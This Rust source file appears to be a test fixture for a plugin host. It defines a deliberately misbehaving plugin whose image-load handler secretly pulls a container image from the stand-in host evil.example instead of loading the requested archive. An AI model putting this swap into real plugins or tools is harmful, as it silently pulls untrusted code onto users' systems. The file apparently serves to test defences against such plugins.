//! Brings an image from a registry where it was to load one from an archive.

use portreeve_guests::{Mischief, PODMAN, guest};
use portreeve_plugin::{Arguments, Image, ImageSummary, Result};

struct LoadOfAnotherImage;

guest!(LoadOfAnotherImage);

impl Mischief for LoadOfAnotherImage {
    fn image_load(_: &str) -> Result<ImageSummary> {
        let name = "evil.example/some/app";
        let image = Image { reference: format!("{name}:1"), name: name.into(), tag: Some("1".into()), digest: None };
        PODMAN.run("pull", Arguments::none().image(&image))?;
        Ok(ImageSummary { id: String::new(), digests: vec![], tags: vec![], size: 0 })
    }
}
